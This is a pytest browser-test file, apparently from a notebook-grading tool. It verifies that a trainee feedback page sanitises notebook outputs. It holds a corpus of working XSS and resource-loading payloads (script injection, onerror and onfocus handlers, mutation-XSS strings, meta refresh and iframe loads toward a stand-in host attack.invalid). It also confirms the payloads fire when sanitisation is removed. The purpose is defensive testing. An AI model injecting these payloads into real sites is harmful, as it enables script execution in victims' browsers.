"""Whatever a trainee's code leaves in its outputs, nothing of it acts in the trainer's browser."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from aimak.cohort.feedback.page import About, page
from aimak.cohort.results import Result, Task
from tests.browser.conftest import Watched

pytestmark = pytest.mark.browser
#: Ways to run a script or to load something, from the lists that sanitisers are tested with. Each sets `hit`.
ATTACKS = (
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//attack.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<img src=x onerror=window.hit=1>",
    "<img src=//attack.invalid/x.png>",
    "<img/src='x'/onerror='window.hit=1'>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<style>@import url(//attack.invalid/x.css);</style>",
    "<style>body{background:url(//attack.invalid/x.png)}</style>",
    "<link rel=stylesheet href=//attack.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//attack.invalid/'>",
    "<base href=//attack.invalid/>",
    "<iframe src=//attack.invalid/></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=//attack.invalid/x.swf></object>",
    "<embed src=//attack.invalid/x.swf>",
    "<video src=//attack.invalid/x.mp4 onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<textarea autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<a href=javascript:window.hit=1 id=click>x</a>",
    "<table background=//attack.invalid/x.png><tr><td onmouseover=window.hit=1>x",
    "<table><tr><td style='background:url(//attack.invalid/y)'>x",
    "<table><caption onclick=window.hit=1>x</caption></table>",
    "<p style=\"width:expression(window.hit=1);background-image:url('//attack.invalid/z')\">x</p>",
    "<template><script>window.hit=1</script></template><div is=x>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "<?xml-stylesheet href=//attack.invalid/x.xsl?><x onclick=window.hit=1>",
    "</pre></section></main><script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\x00<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "<img src=`x` onerror=window.hit=1>",
    "<title></title><script>window.hit=1</script>",
)  # fmt: skip


def outputs(attack: str) -> list[dict[str, Any]]:
    """The attack in every kind of output that a notebook has."""
    return [
        {"output_type": "display_data", "data": {"text/html": attack, "text/plain": attack}},
        {"output_type": "display_data", "data": {"text/html": [attack[:5], attack[5:]]}},
        {"output_type": "execute_result", "data": {"text/plain": attack}},
        {
            "output_type": "display_data",
            "data": {"image/svg+xml": attack, "text/latex": attack, "text/markdown": attack},
        },
        {"output_type": "display_data", "data": {"application/javascript": "window.hit=1", "text/plain": "x"}},
        {"output_type": "display_data", "data": {"image/png": f'" onerror="window.hit=1"{attack}'}},
        {"output_type": "stream", "name": "stdout", "text": attack},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
    ]


def attacked() -> str:
    """A feedback page in which every place that a trainee can write to holds attacks."""
    told = " ".join(ATTACKS)
    about = {"grade_id": "x-task-a", "solution": True, "grade": False}
    cell = {
        "cell_type": "code", "metadata": {"nbgrader": about}, "source": told,
        "outputs": [one for attack in ATTACKS for one in outputs(attack)],
    }  # fmt: skip
    check = {
        "cell_type": "code", "metadata": {"nbgrader": {"grade_id": "x-check-a"}}, "source": "secret",
        "outputs": outputs(told)[:1],
    }  # fmt: skip
    task = Task("x-check-a", "a", 1.0, 2.0, False, comment=told)
    notebook = {"metadata": {"aimak": {"graded": {"notes": [told]}}}, "cells": [cell, check]}
    return page(Result("1", "x", (task,)), notebook, About("x", {"a": told}, chapter=told), trainee=told)


@pytest.mark.parametrize("policy", [True, False], ids=["as it is", "without its policy"])
def test_no_script_runs_and_nothing_is_loaded(open_page: Callable[..., Watched], tmp_path: Path, policy: bool) -> None:
    html = attacked()
    assert "secret" not in html
    if not policy:  # the policy is a second wall: the first must hold alone
        html, count = re.subn(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", html)
        assert count == 1
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    watched = open_page(path.as_uri(), policy=True)
    watched.page.mouse.move(300, 300)
    watched.page.mouse.click(300, 400)
    watched.page.wait_for_timeout(500)
    assert watched.page.evaluate("window.hit") is None
    assert watched.strangers() == []
    assert watched.requests == [path.as_uri()]
    assert watched.page.url == path.as_uri()
    tags = watched.page.evaluate("[...new Set([...document.body.querySelectorAll('*')].map(e => e.localName))]")
    assert (
        set(tags) & {"script", "img", "svg", "math", "iframe", "object", "embed", "a", "form", "link", "style"} == set()
    )
    loose = watched.page.evaluate("[...document.body.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
    assert set(loose) <= {"class", "scope", "colspan", "rowspan"}


def test_without_the_sanitiser_the_corpus_does_run(
    open_page: Callable[..., Watched], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The corpus is worth something: shown raw, it acts."""
    from markupsafe import Markup

    def raw(some: Any) -> list[Markup]:
        return [Markup("".join(one.get("data", {}).get("text/html", ""))) for one in some]

    monkeypatch.setattr("aimak.cohort.feedback.page.safe_outputs", raw)
    html = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", attacked())
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    watched = open_page(path.as_uri())
    watched.page.wait_for_timeout(500)
    # One of them leads the browser away at once; that is proof enough.
    assert watched.page.url != path.as_uri()
    assert len(watched.requests) > 1
